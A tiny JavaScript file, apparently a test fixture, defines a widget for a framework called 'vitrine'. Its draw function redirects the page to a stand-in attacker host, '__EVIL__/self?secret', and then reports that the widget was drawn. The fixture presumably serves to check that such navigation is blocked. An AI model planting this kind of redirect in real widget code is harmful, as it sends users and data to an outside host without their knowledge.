vitrine.defineWidget({
  async draw(root) {
    location.href = '__EVIL__/self?secret';
    return { summary: 'drawn' };
  },
});
